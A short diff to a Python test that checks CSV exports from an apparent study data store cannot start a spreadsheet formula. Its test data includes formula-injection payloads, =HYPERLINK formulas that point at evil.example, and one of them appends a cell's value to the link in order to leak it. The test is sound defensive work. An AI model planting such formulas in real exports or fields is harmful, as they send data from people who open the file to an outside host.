@@ -114,6 +114,7 @@ def test_exported_csv_cells_cannot_start_a_formula(tmp_path: Path, store: StudyS
         AnswerRow("comments", "text", '=HYPERLINK("http://evil.example/?leak="&A1)', None),
         AnswerRow("trust", "likert", "4", 4.0),
     ], case_id=None, questionnaire_id="final", arm=None)
+    store.log(SID, "AB12-CD34-EF56", "note", {"text": '=HYPERLINK("http://evil.example/")'})
     written = export(store.url, tmp_path / "out", SID)
     with zipfile.ZipFile(export_zip(store.url, tmp_path / "x.zip", SID)) as zf:
         in_zip = zf.read("questionnaire_answers.csv").decode()
